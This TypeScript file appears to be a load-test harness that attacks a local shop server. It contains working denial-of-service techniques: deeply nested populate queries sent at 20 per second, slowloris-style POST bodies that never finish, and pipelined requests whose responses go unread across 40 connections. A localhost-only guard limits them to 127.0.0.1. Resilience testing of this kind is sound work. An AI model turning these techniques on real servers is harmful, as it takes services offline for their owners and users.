// What somebody may do to a shop from outside, in bounded numbers and against this machine alone.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export interface Attack {
  /** What came of it, once it has been stopped. */
  stop(): Promise<string> | string;
}

/** As deep as links go round: collections of products of collections. */
const CIRCLE = ['products', 'collections', 'products', 'collections', 'products'];
const HEAVY = `/api/collections?${CIRCLE.map((_, depth) =>
  CIRCLE.slice(0, depth + 1)
    .map((name, level) => (level === 0 ? `populate[${name}]` : `[populate][${name}]`))
    .join('')
    .concat('[sort]=id'),
).join('&')}`;
const QUERIES_PER_SECOND = 20;
const CLIENTS = 40;

/** Reads that walk in circles, many a second. */
export function heavyQueries(url: string): Attack {
  const statuses = new Map<number, number>();
  const stopped = new AbortController();
  const timer = setInterval(async () => {
    const answer = await fetch(url + HEAVY, { signal: stopped.signal }).catch(() => null);
    await answer?.arrayBuffer().catch(() => null);
    if (!stopped.signal.aborted) statuses.set(answer?.status ?? 0, (statuses.get(answer?.status ?? 0) ?? 0) + 1);
  }, 1_000 / QUERIES_PER_SECOND);
  return {
    stop() {
      clearInterval(timer);
      stopped.abort();
      return `answered ${[...statuses].map(([status, count]) => `${count} × ${status}`).join(', ')}`;
    },
  };
}

/** Forms of which one letter comes a second, and never the last. */
export function endlessBodies(url: string): Attack {
  const sockets = open(url);
  const head = 'POST /newsletter HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\n';
  for (const socket of sockets) socket.write(`${head}Content-Length: 100000\r\n\r\n`);
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write('x');
  }, 1_000);
  return {
    stop() {
      clearInterval(timer);
      return closed(sockets);
    },
  };
}

/** Pages asked for several times on one connection, and never read. */
export function unreadAnswers(url: string, times = 8): Attack {
  const sockets = open(url);
  for (const socket of sockets) {
    socket.pause();
    socket.write('GET / HTTP/1.1\r\nHost: shop\r\n\r\n'.repeat(times));
  }
  return { stop: () => closed(sockets) };
}

/** The same hundreds of times, without waiting for a single answer. */
export const impatientClients = (url: string): Attack => unreadAnswers(url, 300);

function open(url: string): Socket[] {
  const { hostname, port } = new URL(url);
  if (hostname !== '127.0.0.1') throw new Error('only the shop on this machine is attacked');
  return Array.from({ length: CLIENTS }, () => connect(Number(port), hostname).on('error', () => {}));
}

async function closed(sockets: readonly Socket[]): Promise<string> {
  // Whoever does not read does not notice the end either.
  for (const socket of sockets) socket.resume();
  await sleep(1_000);
  const cut = sockets.filter((socket) => socket.closed || socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return `${cut} of ${sockets.length} connections cut off by the shop`;
}
